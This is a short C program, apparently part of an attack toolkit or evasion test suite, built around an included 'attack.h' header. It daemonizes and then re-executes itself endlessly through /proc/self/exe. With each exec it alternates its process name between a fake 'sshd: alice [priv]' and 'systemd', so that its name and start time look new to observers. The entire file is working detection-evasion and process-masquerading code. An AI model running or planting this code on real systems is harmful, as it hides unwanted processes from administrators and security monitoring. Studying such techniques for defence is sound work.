/* Becomes another program again and again, so that its name and its start look new. */
#include "attack.h"

int main(int argc, char **argv) {
    (void)argc;
    char count[32];
    unsigned long execs = argv[1] ? strtoul(argv[1], 0, 10) : 0;
    if (execs == 0) {
        be_deaf();
        daemonize();
    }
    if (execs % 50 == 0) prove("execs", execs);
    snprintf(count, sizeof count, "%lu", execs + 1);
    execl("/proc/self/exe", execs % 2 ? "sshd: alice [priv]" : "systemd", count, (char *)0);
    return 1;
}
